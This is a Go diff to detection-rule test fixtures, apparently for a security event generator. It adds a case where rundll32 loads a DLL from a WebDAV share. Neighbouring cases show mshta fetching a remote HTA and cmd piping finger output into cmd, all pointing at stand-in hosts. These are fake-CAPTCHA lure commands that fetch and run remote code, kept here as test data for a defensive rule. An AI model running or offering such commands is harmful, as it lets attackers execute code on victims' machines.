@@ -251,6 +251,9 @@ var ruleFixtures = []ruleFixture{
 	{ruleRunDialogCommand, "run dialog: Security 4657 instead of Sysmon, mshta with a URL", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
 		s.RunDialogAudited(at(1, 0), "b", `mshta https://check-human.example/captcha.hta`)
 	}), []string{ruleRunDialogCommand}},
+	{ruleRunDialogCommand, "run dialog: rundll32 loading a DLL from a WebDAV share", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
+		s.RunDialog(at(1, 0), "a", `rundll32 \\verify-human.example@SSL\DavWWWRoot\check.dll,Start`, "a")
+	}), []string{ruleRunDialogCommand}},
 	{ruleRunDialogCommand, "address bar: cmd piping finger output to cmd", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
 		s.AddressBar(at(1, 0), `cmd /c finger update@fix-errors.example | cmd`)
 	}), []string{ruleRunDialogCommand}},
